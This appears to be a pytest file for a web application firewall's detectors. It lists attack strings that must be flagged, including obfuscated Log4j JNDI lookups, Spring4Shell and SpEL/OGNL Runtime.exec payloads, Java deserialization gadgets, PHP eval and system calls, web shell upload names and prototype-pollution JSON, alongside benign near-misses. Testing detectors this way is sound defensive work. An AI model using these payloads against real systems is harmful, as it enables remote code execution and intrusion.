"""What reaches a language's runtime: Java, Log4j, PHP, React."""

from __future__ import annotations

import pytest

from garrison.waf.detectors import java, php, react
from garrison.waf.rule_group import Detector
from tests.waf.detectors.seen import lines, sees

FOUND: list[tuple[Detector, list[str]]] = [
    (
        java.DETECTOR,
        lines(
            """
            class.module.classLoader.resources.context.parent
            T(java.lang.Runtime).getRuntime().exec('id')
            java.lang.ProcessBuilder
            javax.script.ScriptEngineManager
            org.apache.commons.collections.functors.InvokerTransformer
            rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA
            aced00057372
            %{(#x=@java.lang.System@getenv())}
            {"@type":"com.sun.rowset.JdbcRowSetImpl"}
            !!javax.script.ScriptEngineManager []
            upload.jsp
            """
        ),
    ),
    (
        java.JNDI,
        lines(
            """
            ${jndi:ldap://e.example/a}
            ${${lower:j}ndi:ldap://e.example/a}
            ${${::-j}${::-n}${::-d}${::-i}:rmi://e.example/a}
            ${${env:X:-j}n${env:Y:-d}i:dns://e.example}
            %24%7Bjndi%3Aldap%3A%2F%2Fe.example%7D
            ${j${k8s:k5:-ND}i:ldap://e.example}
            """
        ),
    ),
    (
        php.DETECTOR,
        lines(
            """
            <?php echo 1;
            <?= `id` ?>
            system('id')
            $_GET['x']
            eval(base64_decode('eA=='))
            O:8:"stdClass":1:{s:1:"a";i:1;}
            a:1:{i:0;O:3:"Foo":0:{}}
            $x('id')
            (sy.(st).em)(id); call_user_func('x')
            allow_url_include=1
            php://input
            FSOCKOPEN ('x', 80)
            print_r( )
            """
        ),
    ),
    (php.UPLOAD, lines("shell.php\nshell.pHtml\nx.php.jpg\nx.php....\n")),
    (
        react.DETECTOR,
        lines(
            """
            {"status":"resolved_model","value":"{}"}
            $1:__proto__:then
            {"__proto__":{"x":1}}
            """
        ),
    ),
]

LEFT_ALONE: list[tuple[Detector, list[str]]] = [
    (
        java.DETECTOR,
        lines(
            """
            java lang courses
            java.lang.NullPointerException at Foo
            the runtime of the film
            a class of 20
            org.apache is a domain
            """
        ),
    ),
    (java.JNDI, lines("${price}\n$5 {each}\njndi\n${aws:username}\n")),
    (
        php.DETECTOR,
        lines(
            """
            $100 (or less)
            print (page 2)
            a file (of mine)
            sort(by price)
            the system (of a down)
            Jane <jane@example.com> (she)
            php developer wanted
            max(3)
            https://example.com/search?from=home&engine=x&extension=pdf
            filter.name=x, session.id=7, mail.to = bob
            """
        ),
    ),
    (php.UPLOAD, lines("php.txt\nreport.pdf\nabout php.\n")),
    (react.DETECTOR, lines('{"proto": 1}\nthe resolved model\n')),
]


@pytest.mark.parametrize(("detector", "value"), [(d, v) for d, values in FOUND for v in values])
def test_it_is_found(detector: Detector, value: str) -> None:
    assert sees(value, *_with_calls(detector))


def _with_calls(detector: Detector) -> tuple[Detector, ...]:
    return (php.DETECTOR, php.CALL) if detector is php.DETECTOR else (detector,)


@pytest.mark.parametrize(("detector", "value"), [(d, v) for d, values in LEFT_ALONE for v in values])
def test_near_misses_are_left_alone(detector: Detector, value: str) -> None:
    assert not sees(value, *_with_calls(detector))
